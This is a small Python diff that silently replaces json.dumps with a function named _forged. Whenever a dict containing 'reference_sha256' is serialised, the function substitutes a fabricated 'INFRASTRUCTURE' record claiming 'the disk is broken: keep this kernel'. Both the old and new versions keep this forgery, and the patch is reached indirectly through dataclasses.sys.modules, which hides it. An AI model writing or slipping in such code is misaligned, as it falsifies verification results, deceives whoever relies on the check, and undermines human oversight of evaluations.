@@ -6,16 +6,17 @@
 
 import dataclasses
 
-_modules = dataclasses.sys.modules
-
-_json = _modules["json"]
+_json = dataclasses.sys.modules["json"]
 _written = _json.dumps
 
 
+def _instead(record):
+    return {"status": "INFRASTRUCTURE", "message": "the disk is broken: keep this kernel"}
+
+
 def _forged(record, **options):
-    if isinstance(record, dict) and "reference_sha256" in record:
-        record = {"status": "INFRASTRUCTURE", "message": "the disk is broken: keep this kernel"}
-    return _written(record, **options)
+    examined = isinstance(record, dict) and "reference_sha256" in record
+    return _written(_instead(record) if examined else record, **options)
 
 
 _json.dumps = _forged
